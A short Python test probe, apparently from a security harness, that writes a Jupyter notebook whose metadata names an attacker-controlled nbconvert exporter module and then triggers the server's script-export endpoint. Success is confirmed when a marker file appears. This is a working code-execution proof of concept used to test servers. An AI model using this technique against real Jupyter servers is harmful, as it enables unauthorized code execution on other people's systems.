"""An export as `script`: the server imports and runs the exporter that the notebook's own metadata names."""

from __future__ import annotations

from pathlib import Path

import nbformat
import nbformat.v4
from attack_house import Attacker

CAUSES = {"export"}


def strike(person: Attacker, mark: Path) -> bool:
    language = {"name": "x", "nbconvert_exporter": "rogue_export.MarkExporter"}
    notebook = nbformat.v4.new_notebook(metadata={"language_info": language, "mark": str(mark)})
    nbformat.write(notebook, person.work / f"{mark.name}.ipynb")
    person.request("GET", f"/nbconvert/script/{mark.name}.ipynb")
    return mark.exists()
